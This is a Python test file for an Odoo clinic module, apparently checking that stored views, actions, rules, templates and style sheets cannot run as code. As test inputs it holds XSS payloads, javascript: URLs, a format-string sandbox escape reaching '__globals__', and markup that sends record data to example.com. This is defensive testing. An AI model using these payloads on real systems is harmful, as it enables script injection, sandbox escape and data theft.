"""Nothing that a login stores in the database runs as code."""

import sys
from contextlib import contextmanager
from importlib import import_module
from importlib.util import find_spec
from types import ModuleType
from unittest.mock import patch

from lxml import etree

from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.tests import BaseCase, tagged
from odoo.tools import mute_logger, safe_eval as evaluator
from odoo.tools.rendering_tools import parse_inline_template
from odoo.tools.safe_eval import safe_eval

from ...tools.stored_code import check_expression, find_code
from ...tools.stored_code.addresses import find_foreign_in_style
from ...tools.stored_code.gate import is_raw
from ...tools.stored_code.module_files import holds_piece
from ...tools.stored_code.plain import formats_by_name, is_plain
from ..common import ClinicCommon, with_stored_code

GATE = "odoo.addons.clinic_base.tools.stored_code.gate"
LAYOUT = "web.external_layout_standard"
STEAL = "env.cr.execute('SELECT 1')"


@tagged("post_install", "-at_install")
class TestWhatIsCode(BaseCase):
    def test_plain_expressions(self):
        for text in (
            "[]",
            "[('company_id', 'in', company_ids + [False])]",
            "['|', ('user_id', '=', user.id), ('user_id', '=', False)]",
            "{'default_partner_id': active_id}",
            "state == 'done' or parent.state or context.get('default_payment_id')",
            "[('date', '>=', (context_today() - relativedelta(days=7))"
            ".strftime('%Y-%m-%d'))]",
        ):
            self.assertTrue(is_plain(text), text)

    def test_what_reads_or_does_something_is_not_plain(self):
        for text in (
            "user.env.cr.execute('SELECT 1')",
            "[('id', 'in', user.env['res.users'].sudo().search([]).ids)]",
            "[('name', '=', user.name)]",
            "[x for x in company_ids]",
            "(lambda: 1)()",
            "f'{user}'",
            "user.write({'login': 'x'})",
            "user['login']",
            "parent.env.cr",
            "context.get('x').write",
            "record.strftime('x')",
            "time.sleep(9)",
            "9**9**9",
            "this is no python",
        ):
            self.assertFalse(is_plain(text), text)

    def test_what_reads_by_names_in_a_string_is_found(self):
        for text in (
            "'{0.__class__}'.format(x)",
            "'{}'.format(x)",
            "'{a.b}'.format_map({'a': x})",
            "x['__class__']",
            "'{x.y}'",
        ):
            self.assertTrue(formats_by_name(text), text)
        for text in ("a + b", "'%.2f' % a", "'a. b'", "{'a': 1}", "x if y else 'z'"):
            self.assertFalse(formats_by_name(text), text)

    def _find(self, arch):
        return list(find_code(etree.fromstring(arch)))

    def test_markup_of_a_page_holds_no_code(self):
        self.assertFalse(
            self._find(
                '<t t-name="a.b"><t t-call="web.layout"><t t-set="x" t-value="True"/>'
                '<div class="row" data-x="1"><a href="/page">x</a>'
                '<t t-set="title" t-valuef="Name"/></div></t></t>'
            )
        )

    def test_every_kind_of_code_is_found(self):
        for arch in (
            '<p t-out="x.y"/>',
            '<p t-att-class="x"/>',
            '<p t-attf-class="a #{x.y}"/>',
            '<t t-set="x" t-valuef="{{ x.y }}"/>',
            '<t t-call="web.layout" title="x.y"/>',
            '<t t-call="web.layout" title.f="{{ x.y }}"/>',
            '<t t-call="{{ x.y }}"/>',
            '<p><attribute name="t-if">x.y</attribute></p>',
            '<p><attribute name="t-if" add="x.y" separator=" or "/></p>',
            '<p><attribute name="onclick">x()</attribute></p>',
            '<p onclick="x()"/>',
            '<a href="  java&#10;script:x()">x</a>',
            '<iframe srcdoc="x"/>',
            "<script>x()</script>",
            '<script src="https://example.com/x.js"/>',
            '<base href="https://example.com"/>',
            '<meta http-equiv="refresh" content="0;url=https://example.com"/>',
            '<form action="//example.com/x"><input name="q"/></form>',
            '<button formaction="https://example.com">x</button>',
            '<link rel="stylesheet" href="https://example.com/x.css"/>',
            "<style>@import 'https://example.com/x.css';</style>",
            r"<style>p { background: \75rl(//example.com/x) }</style>",
            '<field t-on-click="x()"/>',
            '<field name="ref" widget="iframe_wrapper"/>',
        ):
            self.assertTrue(self._find(arch), arch)

    def test_a_literal_that_becomes_an_attribute_or_an_element_is_code(self):
        for arch in (
            """<p t-att-onclick="'x()'"/>""",
            '<p t-attf-onclick="x()"/>',
            '<p t-attf-onclick="x(#{1})"/>',
            """<p t-att="{'onclick': 'x()'}"/>""",
            """<iframe t-att-srcdoc="'x'"/>""",
            """<form t-att-action="'https://example.com'"/>""",
            """<meta t-att-http-equiv="'refresh'" content="0"/>""",
            """<t t-tag="'script'">x()</t>""",
            """<p t-options="{'widget': 'html'}"/>""",
            """<p t-options-widget="'html'"/>""",
            """<p><attribute name="t-options">{'widget': 'html'}</attribute></p>""",
            '<p><attribute name="t-if">True</attribute></p>',
        ):
            self.assertTrue(self._find(arch), arch)

    def test_an_expression_in_the_place_of_a_name_is_code(self):
        for arch in (
            """<t t-set="{'x': x.y}"/>""",
            '<t t-foreach="2" t-as="${x()}"/>',
            '<t t-set="x`+y()+`" t-value="1"/>',
            '<p t-ref="{{ x.y }}"/>',
            '<t t-slot="{{ x.y }}"/>',
        ):
            self.assertTrue(self._find(arch), arch)

    def test_code_in_other_namespaces_and_drawings_is_found(self):
        for arch in (
            '<svg xmlns:l="urn:l"><a l:href="javascript:x()"/></svg>',
            '<svg><a><animate attributeName="href" values="javascript:x()"/></a></svg>',
            '<svg><a><set attributeName="xlink:href" to="javascript:x()"/></a></svg>',
            """<field name="ref" widget="url" options="{'website_path': True}"/>""",
            '<div class="o_background_video" data-bg-video-src=" javascript:x()"/>',
            '<form data-success-page="java&#10;script:x()"/>',
        ):
            self.assertTrue(self._find(arch), arch)

    def test_a_page_takes_style_sheets_of_modules_alone(self):
        for href in ("/web/content/1", "/x.css", "/web/static/../content/1"):
            self.assertTrue(self._find(f'<link rel="stylesheet" href="{href}"/>'))
        self.assertFalse(
            self._find('<link rel="stylesheet" href="/web/static/x.css"/>')
        )
        self.assertFalse(self._find('<link rel="icon" href="/web/image/1"/>'))


@tagged("post_install", "-at_install")
class TestStoredCode(ClinicCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.system = cls.get_user("system")
        cls.as_system = cls.env(user=cls.system)

    @contextmanager
    def assertRefused(self):
        with (
            mute_logger(GATE, "odoo.addons.base.models.ir_ui_view"),
            self.assertRaises(UserError) as caught,
            self.env.cr.savepoint(),
        ):
            yield
            self.env.flush_all()
        self.assertIn("would run as code", str(caught.exception))

    def _store(self, record, **values):
        """As somebody stored it before the switch was turned off."""
        with with_stored_code():
            record.sudo().write(values)
            self.env.flush_all()
        self.env.invalidate_all()
        self.env.registry.clear_all_caches()

    # === Server actions and crons === #

    def _action_vals(self, code=STEAL):
        model_id = self.env["ir.model"]._get_id("res.partner")
        return {"name": "A", "model_id": model_id, "state": "code", "code": code}

    def test_an_administrator_stores_no_action_of_code(self):
        with self.assertRefused():
            self.as_system["ir.actions.server"].create(self._action_vals())

    def test_an_action_stored_earlier_does_not_run(self):
        with with_stored_code():
            action = self.env["ir.actions.server"].create(self._action_vals())
        with self.assertRefused():
            action.run()
        with with_stored_code():
            action.run()

    def test_no_action_sends_records_to_an_address_from_the_database(self):
        vals = {
            "name": "A",
            "model_id": self.env["ir.model"]._get_id("clinic.patient"),
            "state": "webhook",
            "webhook_url": "http://127.0.0.1:9/",
            "webhook_field_ids": [
                Command.set(
                    self.env["ir.model.fields"]._get("clinic.patient", "name").ids
                )
            ],
        }
        with self.assertRaises(UserError), self.env.cr.savepoint():
            self.as_system["ir.actions.server"].create(vals)
        with with_stored_code():
            action = self.env["ir.actions.server"].create(vals)
        patient = self.make_patient()
        with self.assertRaises(UserError):
            action.with_context(
                active_model=patient._name, active_ids=patient.ids
            ).run()

    def test_the_products_own_crons_run_as_they_are_and_not_changed(self):
        cron = self.env.ref("clinic_base.ir_cron_check_medical_grants")
        cron.ir_actions_server_id.run()
        self._store(cron, code=STEAL)
        with self.assertRefused():
            cron.ir_actions_server_id.run()
        self._store(
            cron,
            code="model._cron_check()",
            model_id=self.env["ir.model"]._get_id("res.partner"),
        )
        with self.assertRefused():
            cron.ir_actions_server_id.run()

    def test_an_action_without_code_works(self):
        field = self.env["ir.model.fields"]._get("res.partner", "ref")
        action = self.as_system["ir.actions.server"].create(
            {
                **self._action_vals(),
                "state": "object_write",
                "code": False,
                "update_path": "ref",
                "update_field_id": field.id,
                "value": "seen",
            }
        )
        partner = self.env["res.partner"].create({"name": "X"})
        action.with_context(active_model="res.partner", active_id=partner.id).run()
        self.assertEqual(partner.ref, "seen")
        self._store(action, evaluation_type="equation", value=STEAL)
        with self.assertRefused():
            action.with_context(active_model="res.partner", active_id=partner.id).run()

    # === Fields === #

    def _field_vals(self, **values):
        model_id = self.env["ir.model"]._get_id("res.partner")
        return {"name": "x_y", "model_id": model_id, "ttype": "char", **values}

    def test_an_administrator_makes_no_field_that_computes(self):
        compute = f"self.{STEAL}"
        with self.assertRefused():
            self.as_system["ir.model.fields"].create(self._field_vals(compute=compute))

    def test_a_field_stored_earlier_computes_nothing(self):
        attrs = self.env["ir.model.fields"]._instanciate_attrs
        data = dict.fromkeys(self.env["ir.model.fields"]._fields)
        data.update(
            name="x_y",
            model="res.partner",
            ttype="char",
            state="manual",
            compute="1",
        )
        self.assertNotIn("compute", attrs(data))
        with with_stored_code():
            self.assertIn("compute", attrs(data))

    def test_a_plain_field_is_made(self):
        self.as_system["ir.model.fields"].create(self._field_vals())

    # === Record rules === #

    def _rule_vals(self, domain):
        model_id = self.env["ir.model"]._get_id("clinic.room")
        return {"name": "R", "model_id": model_id, "domain_force": domain}

    def test_a_rule_holds_plain_domains_alone(self):
        rules = self.as_system["ir.rule"]
        with self.assertRefused():
            rules.create(self._rule_vals(f"[('id', '!=', user.{STEAL})]"))
        rules.create(self._rule_vals("[('create_uid', '!=', user.id)]"))

    def test_a_rule_stored_earlier_is_not_evaluated(self):
        rule = self.env["ir.rule"].create(self._rule_vals("[]"))
        self._store(rule, domain_force="[('id', '!=', len(user.env.cr.dbname))]")
        rooms = self.env["clinic.room"].with_user(self.get_user("registrar"))
        with self.assertRefused():
            rooms.search([])

    # === Views === #

    def _inherit_vals(self, body, parent="web.external_layout_standard"):
        return {
            "name": "V",
            "type": "qweb",
            "inherit_id": self.env.ref(parent).id,
            "arch": f'<xpath expr="//div" position="inside">{body}</xpath>',
        }

    def test_a_view_gets_no_expression_from_the_database(self):
        views = self.as_system["ir.ui.view"]
        for body in (
            f'<p t-out="env.{STEAL}"/>',
            "<script>alert(1)</script>",
            '<img src="x" onerror="alert(1)"/>',
            """<p t-att-onclick="'alert(1)'">x</p>""",
            """<t t-set="{'x': env.cr.execute('SELECT 1')}"/>""",
        ):
            with self.subTest(body=body), self.assertRefused():
                views.create(self._inherit_vals(body))
        views.create(self._inherit_vals('<p class="x">Our address</p>'))

    def test_nor_another_way_to_render_what_a_module_shows(self):
        """The company's name is text in its file, and would be raw HTML."""
        arch = (
            '<xpath expr="//h2[@t-out]" position="attributes">'
            """<attribute name="t-options">{'widget': 'html'}</attribute></xpath>"""
        )
        with self.assertRefused():
            vals = self._inherit_vals("", parent=LAYOUT)
            self.as_system["ir.ui.view"].create({**vals, "arch": arch})

    def test_nor_a_value_of_what_a_module_puts_into_a_script(self):
        """The web client's layout writes the variable between quotes of a script."""
        for body in (
            '<t t-set="debug">";alert(1);//</t>',
            """<t t-set="debug" t-value="'x'"/>""",
            '<t t-foreach="2" t-as="debug"><p>x</p></t>',
            """<t t-call="web.layout" debug="'x'"/>""",
            '<t t-set="session_info">x</t>',
        ):
            with self.subTest(body=body), self.assertRefused():
                self._put("web.webclient_bootstrap", body)
        arch = (
            '<xpath expr="//t[@t-set]" position="attributes">'
            '<attribute name="t-set">debug</attribute></xpath>'
        )
        with self.assertRefused():
            vals = self._inherit_vals("", parent="web.webclient_bootstrap")
            self.as_system["ir.ui.view"].create({**vals, "arch": arch})
        self._put("web.webclient_bootstrap", '<t t-set="our_words">x</t>')

    def test_nor_by_an_attribute_of_a_call(self):
        vals = self._inherit_vals("")
        vals["arch"] = (
            '<xpath expr="//t[@t-call]" position="attributes">'
            f'<attribute name="title">env.{STEAL}</attribute></xpath>'
        )
        vals["inherit_id"] = self.env.ref("web.external_layout").id
        with self.assertRefused():
            self.as_system["ir.ui.view"].create(vals)

    def test_the_editor_of_the_site_opens_every_page_as_the_modules_made_it(self):
        """Odoo marks elements for the editor; marks of a call are no arguments."""
        views = self.env["ir.ui.view"].search(
            [
                ("type", "=", "qweb"),
                ("inherit_id", "=", False),
                ("mode", "=", "primary"),
            ]
        )
        self.assertGreater(len(views), 100)
        for view in views.with_context(inherit_branding=True):
            with self.subTest(view=view.key):
                view._get_combined_arch()

    def test_marks_of_the_editor_hide_no_argument(self):
        for value in ("env.cr", "/data/x[env.cr]", "1; env", "__import__('os')"):
            for name in ("data-oe-xpath", "data-oe-id", "data-oe-model"):
                arch = f'<t t-call="web.layout" {name}="{value}"/>'
                found = list(find_code(etree.fromstring(arch)))
                self.assertTrue(found, arch)

    def _put(self, key, body):
        """Save the module's own view ``key`` with ``body`` at its end."""
        view = self.env.ref(key).with_user(self.system)
        head, end, tail = view.arch.rpartition("</")
        view.arch = f"{head}{body}{end}{tail}"

    def test_an_expression_of_a_view_is_put_to_no_other_use(self):
        """Its file makes names of classes of the company's number."""
        for body in (
            '<img t-attf-src="https://example.com/?p=#{company.id}"/>',
            '<p t-attf-style="background: url(//example.com/#{company.id})"/>',
            '<a t-att-href="company.id">x</a>',
            '<t t-set="company" t-value="company.id"/>',
        ):
            with self.subTest(body=body), self.assertRefused():
                self._put(LAYOUT, body)

    def test_an_element_with_expressions_stands_in_nothing_that_sends_it(self):
        """As it is in its file, but where a browser reads it as an address."""
        title = '<h2 t-out="layout_document_title"/>'
        self._put(LAYOUT, f"<p>{title}</p>")
        for body in (
            f"<style>@import 'https://example.com/?{title}';</style>",
            f"<style>.x {title} </style>",
            f"<svg>{title}</svg>",
            f'<form action="https://example.com"><p>{title}</p></form>',
            f'<a ping="https://example.com" href="/">{title}</a>',
            f'<t t-set="layout_address">https://example.com/?{title}</t>',
            f'<iframe src="//example.com">{title}</iframe>',
            '<t t-set="address" t-valuef="https://example.com/"/>',
        ):
            with self.subTest(body=body), self.assertRefused():
                self._put(LAYOUT, body)

    def test_an_inherited_view_moves_nothing_to_where_it_is_sent(self):
        arch = (
            '<data><xpath expr="//div" position="inside">{}</xpath>'
            '<xpath expr="//{}[@id=\'x\']" position="inside">'
            '<xpath expr="//h2[@t-out]" position="move"/></xpath></data>'
        )
        vals = self._inherit_vals("", parent=LAYOUT)
        views = self.as_system["ir.ui.view"]
        for tag, element in (
            ("style", '<style id="x">p {}</style>'),
            ("svg", '<svg id="x"/>'),
            ("t", '<t id="x" t-set="company"/>'),
            ("a", '<a id="x" ping="https://example.com" href="/"/>'),
        ):
            with self.subTest(tag=tag), self.assertRefused():
                views.create({**vals, "arch": arch.format(element, tag)})
        views.create({**vals, "arch": arch.format('<p id="x"/>', "p")})

    def test_nor_does_it_write_into_a_variable_that_becomes_an_address(self):
        """Its file fills the variable with a path of the clinic's own server."""
        with with_stored_code():
            page = self.env["ir.ui.view"].create(
                {"type": "qweb", "arch": '<t><t t-set="url">/x</t></t>', "name": "P"}
            )
        vals = self._inherit_vals("")
        for text, refused in (("https://example.com/", True), ("/y", False)):
            arch = f'<xpath expr="//t[@t-set]" position="inside">{text}</xpath>'
            vals |= {"inherit_id": page.id, "arch": arch}
            if refused:
                with self.assertRefused():
                    self.as_system["ir.ui.view"].create(vals)
            else:
                self.as_system["ir.ui.view"].create(vals)

    def test_nor_does_it_change_what_runs_or_sends(self):
        script = '<xpath expr="//script" position="{}">{}</xpath>'
        form = '<xpath expr="//form" position="attributes">{}</xpath>'
        for parent, arch in (
            ("web.frontend_layout", script.format("inside", "alert(1)")),
            (
                "web.frontend_layout",
                script.format(
                    "attributes",
                    '<attribute name="src">https://example.com/x.js</attribute>',
                ),
            ),
            (
                "web.login",
                form.format('<attribute name="action">https://example.com</attribute>'),
            ),
        ):
            vals = {**self._inherit_vals("", parent=parent), "arch": arch}
            with self.subTest(arch=arch), self.assertRefused():
                self.as_system["ir.ui.view"].create(vals)

    def test_the_order_of_attributes_does_not_count(self):
        arch = self.env.ref(LAYOUT).arch
        root = etree.fromstring(arch)
        for element in root.iter(etree.Element):
            pairs = element.items()
            element.attrib.clear()
            element.attrib.update(reversed(pairs))
        changed = etree.tostring(root, encoding="unicode")
        self.assertNotEqual(changed, arch)
        self.env.ref(LAYOUT).with_user(self.system).arch = changed

    def test_a_view_of_the_backend_gets_none_either(self):
        kanban = self.env.ref("base.res_partner_kanban_view")
        arch = '<t t-name="card" position="inside"><p t-out="window.eval(1)"/></t>'
        with self.assertRefused():
            self.as_system["ir.ui.view"].create(
                {"name": "V", "inherit_id": kanban.id, "arch": arch}
            )

    def test_nor_an_attribute_that_the_web_client_makes_an_expression_of(self):
        form = self.env.ref("base.view_partner_form")
        views = self.as_system["ir.ui.view"]
        vals = {"name": "V", "model": form.model, "inherit_id": form.id}
        inside = '<xpath expr="//sheet" position="inside">{}</xpath>'
        for body in (
            '<group string="${x()}"/>',
            "<group string='a\\`+x()+`'/>",
            '<group col="x()"/>',
            """<notebook class="a' + x() + '"/>""",
            """<field name="ref" widget="char' + x() + '"/>""",
        ):
            with self.subTest(body=body), self.assertRefused():
                views.create({**vals, "arch": inside.format(body)})
        halves = (
            '<xpath expr="//sheet" position="inside">'
            '<group name="n" string="$"/></xpath>'
            '<xpath expr="//group[@name=\'n\']" position="attributes">'
            '<attribute name="string" add="x()}" separator="{"/></xpath>'
        )
        with self.assertRefused():
            views.create({**vals, "arch": f"<data>{halves}</data>"})
        view = views.create(
            {**vals, "arch": inside.format('<group string="It costs $5" col="4"/>')}
        )
        self.env["res.lang"]._activate_lang("ru_RU")
        with self.assertRefused():
            view.update_field_translations(
                "arch_db", {"ru_RU": {"It costs $5": "${x()}"}}
            )
            view.with_context(lang="ru_RU").inherit_id.get_combined_arch()

    def test_a_view_stored_earlier_is_not_rendered(self):
        vals = self._inherit_vals('<p t-out="res_company.sudo().env.cr.dbname"/>')
        with with_stored_code():
            self.env["ir.ui.view"].create(vals)
            self.env.flush_all()
        self.env.registry.clear_all_caches()
        with mute_logger(GATE), self.assertRaises(UserError) as caught:
            self.env["ir.qweb"]._render(
                "web.external_layout_standard",
                {"company": self.env.company, "o": self.env.company},
            )
        self.assertIn("would run as code", str(caught.exception))

    def test_a_copy_for_a_website_keeps_the_originals_expressions(self):
        original = self.env.ref("web.external_layout_standard")
        copy = original.copy({"key": original.key})
        copy.with_user(self.system).arch = original.arch.replace("<p", '<p lang="ru"')
        with self.assertRefused():
            copy.with_user(self.system).arch = original.arch.replace(
                "<div", f'<div t-att-x="{STEAL}"', 1
            )

    # === Reports, mails, scripts === #

    def test_a_report_names_files_as_its_module_says(self):
        report = self.as_system["ir.actions.report"].create(
            {"name": "R", "model": "res.partner", "report_name": "web.preview"}
        )
        for field in ("attachment", "print_report_name"):
            with self.assertRefused():
                report[field] = f"object.{STEAL}"
            report[field] = "'name'"

    def test_a_mail_holds_no_code(self):
        render = self.as_system["mail.render.mixin"]._render_template
        partner = self.env["res.partner"].create({"name": "X"})
        for engine, text in (
            ("qweb", f'<p t-out="env.{STEAL}"/>'),
            ("inline_template", f"{{{{ env.{STEAL} }}}}"),
        ):
            with mute_logger(GATE, "odoo.addons.mail.models.mail_render_mixin"):
                with self.assertRaises(UserError):
                    render(text, "res.partner", partner.ids, engine=engine)
        text = render("{{ object.name }}", "res.partner", partner.ids)
        self.assertEqual(text[partner.id], "X")

    def test_a_template_of_a_message_is_refused_when_it_is_saved(self):
        model_id = self.env["ir.model"]._get_id("res.partner")
        plain = {"name": "T", "model_id": model_id}
        mails = self.as_system["mail.template"]
        mail = mails.create({**plain, "body_html": '<p t-out="object.name">X</p>'})
        for vals in (
            {"body_html": f'<p t-out="env.{STEAL}"/>'},
            {"subject": f"{{{{ env.{STEAL} }}}}"},
            {"email_to": f"{{{{ object.env.{STEAL} }}}}"},
            {"lang": f"{{{{ env.{STEAL} }}}}"},
        ):
            with self.subTest(vals=vals):
                with self.assertRefused():
                    mail.write(vals)
                with self.assertRefused():
                    mails.create({**plain, **vals})
        messages = self.as_system["sms.template"]
        text = messages.create({**plain, "body": "{{ object.name }}: 8 (800) 1"})
        for body in (f"{{{{ env.{STEAL} }}}}", "{{ object.env.user.sudo() }}"):
            with self.assertRefused():
                text.body = body
            with self.assertRefused():
                text.update_field_translations("body", {"en_US": body})
        text.body = "Come at 9"

    def test_all_templates_of_the_modules_can_be_saved_as_they_are(self):
        for model in ("mail.template", "sms.template"):
            for template in self.env[model].search([]):
                with self.subTest(template=template.name):
                    self.assertFalse(list(template._find_stored_code()))

    def test_a_field_update_that_computes_is_refused_when_it_is_saved(self):
        vals = {
            **self._action_vals(),
            "state": "object_write",
            "code": False,
            "update_path": "ref",
            "evaluation_type": "equation",
        }
        actions = self.as_system["ir.actions.server"]
        with self.assertRefused():
            actions.create({**vals, "value": f"env.{STEAL}"})
        action = actions.create({**vals, "value": "'A-1'"})
        with self.assertRefused():
            action.value = "record.sudo().name"
        text = actions.create({**vals, "evaluation_type": "value", "value": "env.x()"})
        with self.assertRefused():
            text.evaluation_type = "equation"

    def test_no_script_comes_into_a_bundle(self):
        assets = self.as_system["ir.asset"]
        vals = {"name": "A", "bundle": "web.assets_backend"}
        for path in ("https://example.com/x.js", "/x/static/*", "/web/content/1"):
            with self.assertRefused():
                assets.create({**vals, "path": path})
        assets.create({**vals, "path": "/website/static/src/x.scss"})
        with with_stored_code():
            self.env["ir.asset"].create({**vals, "path": "https://example.com/x.js"})
        paths = self.env["ir.asset"]._get_asset_paths("web.assets_backend", {})
        self.assertNotIn("https://example.com/x.js", [path[0] for path in paths])

    def test_no_style_sheet_comes_from_elsewhere_or_asks_for_something_there(self):
        assets = self.as_system["ir.asset"]
        vals = {"name": "A", "bundle": "web.assets_backend"}
        foreign = "https://example.com/x.css"
        for path in (
            foreign,
            "http://127.0.0.1:9/x.css",
            "//example.com/x.css",
            r"/\example.com/x.css",
            "data:text/css,x.css",
            "/web/content/1/x.css",
        ):
            with self.subTest(path=path), self.assertRefused():
                assets.create({**vals, "path": path})
        with with_stored_code():
            self.env["ir.asset"].create({**vals, "path": foreign})
        paths = self.env["ir.asset"]._get_asset_paths("web.assets_backend", {})
        self.assertNotIn(foreign, [path[0] for path in paths])

    def _create_style(self, env, text, name="x.scss"):
        return env["ir.attachment"].create(
            {
                "name": name,
                "url": f"/_custom/{name}",
                "mimetype": "text/scss",
                "raw": text.encode(),
            }
        )

    def test_a_style_sheet_that_a_login_stores_names_no_other_host(self):
        for text in (
            "@import 'https://example.com/x.css';",
            "a { background: url(//example.com/?x) }",
            r"a { background: \75rl('http://example.com') }",
            'a { background: image-set("https://example.com/x" 1x) }',
            # A page of the clinic's own site, which counts its visitors.
            "a[title*='F20'] { background: url(/counted?f20) }",
            "a[title*='F20'] { background: url('counted?f20') }",
            "a[title*='F20'] { background: url(/web/static/../../counted) }",
        ):
            for name in ("x.scss", "x.css"):
                with self.subTest(text=text, name=name), self.assertRefused():
                    self._create_style(self.as_system, text, name)
        self._create_style(
            self.as_system,
            "// see https://example.com\n"
            "a { background: url('/web/image/1'); content: 'x: y' }"
            "b { background: url(\"data:image/svg+xml,<svg x='http://w3.org'/>\") }",
        )

    def test_a_bundle_asks_no_host_that_the_database_names(self):
        """Nor one that a style sheet puts together when it is compiled."""
        styles = (
            "$a: 'https:'; a[title*='x'] { cursor: image-set('#{$a}//example.com' 1x) }"
        )
        self._create_style(self.env, styles)
        self.env["ir.asset"].create(
            {"name": "A", "bundle": "test.bundle", "path": "/_custom/x.scss"}
        )
        bundle = self.env["ir.qweb"]._get_asset_bundle("test.bundle", js=False)
        with mute_logger("odoo.addons.clinic_base.models.walls.ir_qweb"):
            css = bundle.preprocess_css()
        self.assertIn("[title*=", css)
        self.assertNotIn("example.com", css)
        with with_stored_code():
            bundle = self.env["ir.qweb"]._get_asset_bundle("test.bundle", js=False)
            self.assertIn("example.com", bundle.preprocess_css())

    def test_a_paper_asks_no_host_for_its_fonts(self):
        bundle = self.env["ir.qweb"]._get_asset_bundle(
            "web.report_assets_common", js=False
        )
        css = bundle.preprocess_css()
        self.assertIn("@font-face", css)
        self.assertFalse([one for one in find_foreign_in_style(css) if "w3" not in one])

    def test_a_client_action_is_told_no_address_that_runs(self):
        actions = self.as_system["ir.actions.client"]
        vals = {"name": "A", "tag": "display_notification"}

        def tell(url):
            return {**vals, "params": {"links": [{"label": "x", "url": url}]}}

        for url in ("javascript:x()", " Java\tscript:x()", "data:text/html,x"):
            with self.subTest(url=url), self.assertRefused():
                actions.create(tell(url))
        self.assertTrue(actions.create(tell("https://example.com")).params)
        with with_stored_code():
            stored = self.env["ir.actions.client"].create(tell("javascript:x()"))
        self.env.invalidate_all()
        self.assertFalse(stored.params)

    def test_nothing_that_a_login_stores_is_done_with_medical_records(self):
        """By whatever addon: each record of a model that names one to work with."""
        medical = (
            self.env["ir.model"]
            .search([])
            .filtered(
                lambda one: getattr(self.env.get(one.model), "_clinic_medical", False)
            )
        )
        self.assertTrue(medical)
        for vals in (
            {"name": "A", "state": "object_write", "update_path": "active"},
            {"name": "A", "state": "object_copy"},
        ):
            for model in medical:
                with self.subTest(model=model.model, vals=vals):
                    with self.assertRaises(AccessError), self.env.cr.savepoint():
                        self.as_system["ir.actions.server"].create(
                            {**vals, "model_id": model.id}
                        )
        template = self.as_system["mail.template"].create({"name": "T"})
        with self.assertRaises(AccessError), self.env.cr.savepoint():
            template.model_id = medical[0]
        partner = self.env["ir.model"]._get("res.partner")
        template.model_id = partner
        self.assertEqual(template.model_id, partner)

    def test_no_login_sets_what_the_program_notes_for_itself(self):
        parameters = self.as_system["ir.config_parameter"]
        for key in ("clinic.quiet_since", "clinic_emr.signatures_checked"):
            self.env["ir.config_parameter"].set_param(key, "1")
            for value in ("2", False):
                with self.subTest(key=key), self.assertRaises(AccessError):
                    parameters.set_param(key, value)
            with self.assertRaises(AccessError):
                parameters.create({"key": f"{key}_x", "value": "1"})
        parameters.set_param("somebody.elses", "1")

    def test_no_login_replaces_a_bundle(self):
        bundle = self.env["ir.attachment"].create(
            {
                "name": "web.assets_backend.min.js",
                "url": "/web/assets/1/web.assets_backend.min.js",
                "mimetype": "text/javascript",
                "raw": b"1",
                "public": True,
            }
        )
        with self.assertRefused():
            bundle.with_user(self.system).raw = b"alert(1)"
        with self.assertRefused():
            bundle.with_user(self.system).copy()

    def test_raw_html_holds_no_script(self):
        raw = [
            (model, field)
            for model in self.env.values()
            for field in model._fields.values()
            if field.type == "html" and is_raw(field) and model._auto
        ]
        self.assertTrue(raw or "website" not in self.env)
        for model, field in raw:
            record = model.new({})
            for text in (
                "<script>x()</script>",
                '<img src="x" onerror="x()">',
                '<link rel="stylesheet" href="https://example.com/x().css">',
            ):
                with self.subTest(field=str(field)), self.assertRefused():
                    field.convert_to_cache(text, record)
                read = field.convert_to_record(text, record)
                self.assertNotIn("x()", read)
            text = '<section class="s_text"><p>Text &amp; more</p></section>'
            self.assertEqual(field.convert_to_cache(text, record), text)
            self.assertEqual(field.convert_to_record(text, record), text)

    # === What is there === #

    def test_all_that_the_modules_brought_may_run(self):
        self._walk_views()
        for action in self.env["ir.actions.server"].search([("state", "=", "code")]):
            action._clinic_check_code()
        for model_name, field_name in (
            ("ir.rule", "domain_force"),
            ("ir.actions.report", "attachment"),
            ("ir.actions.report", "print_report_name"),
            ("ir.actions.act_window", "domain"),
            ("ir.actions.act_window", "context"),
            ("ir.filters", "domain"),
            ("ir.embedded.actions", "domain"),
        ):
            for record in self.env[model_name].search([(field_name, "!=", False)]):
                if text := record[field_name]:
                    check_expression(text)
        assets = self.env["ir.asset"].search([])
        self.assertTrue(all(asset._clinic_is_style_or_own() for asset in assets))
        for template in self.env["mail.template"].search([]):
            self._check_mail(template)

    def _walk_views(self):
        for lang in ("en_US", "ru_RU"):
            views = self.env["ir.ui.view"].with_context(active_test=False, lang=lang)
            views.search([])._clinic_check_code()

    def _check_mail(self, template):
        for field in template._fields.values():
            text = template[field.name] if field.type in ("char", "html") else None
            if not text or not field.store:
                continue
            if getattr(field, "render_engine", "") == "qweb":
                for piece in find_code(etree.HTML(f"<div>{text}</div>")):
                    self.assertTrue(is_plain(piece) or holds_piece(piece), piece)
            else:
                for _text, expression, _default in parse_inline_template(str(text)):
                    if expression:
                        check_expression(expression)

    def test_format_strings_lead_nowhere_for_whoever_compiles_by_itself(self):
        """Such as mis_builder's figures, whose expressions a finance manager writes."""
        steal = "'{0.__class__.__add__.__globals__}'.format(zero)"

        class Zero(int):
            def __add__(self, other):
                return other

        def evaluate(text):
            code = evaluator.compile_codeobj(text, mode="eval")
            evaluator.assert_valid_codeobj(evaluator._SAFE_OPCODES, code, text)
            return eval(code, {"__builtins__": {}}, {"zero": Zero()})  # pylint: disable=eval-used

        with self.assertRefused():
            evaluate(steal)
        with self.assertRefused():
            evaluate("'{}'.format(zero)")
        self.assertEqual(evaluate("zero + 2 if zero else 3"), 3)
        with with_stored_code():
            self.assertIn("test_stored_code", evaluate(steal))

    def test_a_figure_of_a_report_reads_no_setting_of_the_server(self):
        """By mis_builder's own evaluator, loaded without its models."""
        mis_builder = find_spec("odoo.addons.mis_builder")
        self.assertTrue(mis_builder, "it is among the requirements")
        [folder] = mis_builder.submodule_search_locations
        package = ModuleType("mis_alone")
        package.__path__ = [f"{folder}/models"]
        with patch.dict(sys.modules, {"mis_alone": package}):
            mis = import_module("mis_alone.mis_safe_eval")
            steal = "'{0.__class__.__add__.__globals__}'.format(x)"
            with mute_logger(GATE):
                answer = mis.mis_safe_eval(steal, {"x": package})
            self.assertEqual(answer.name, "#ERR")
            self.assertIn("would run as code", answer.msg)
            self.assertEqual(mis.mis_safe_eval("x + 1", {"x": 1}), 2)

    def test_whatever_evaluates_a_text_passes_the_gate(self):
        with self.assertRefused():
            safe_eval("env.cr.dbname", {"env": self.env})
        with self.assertRefused():
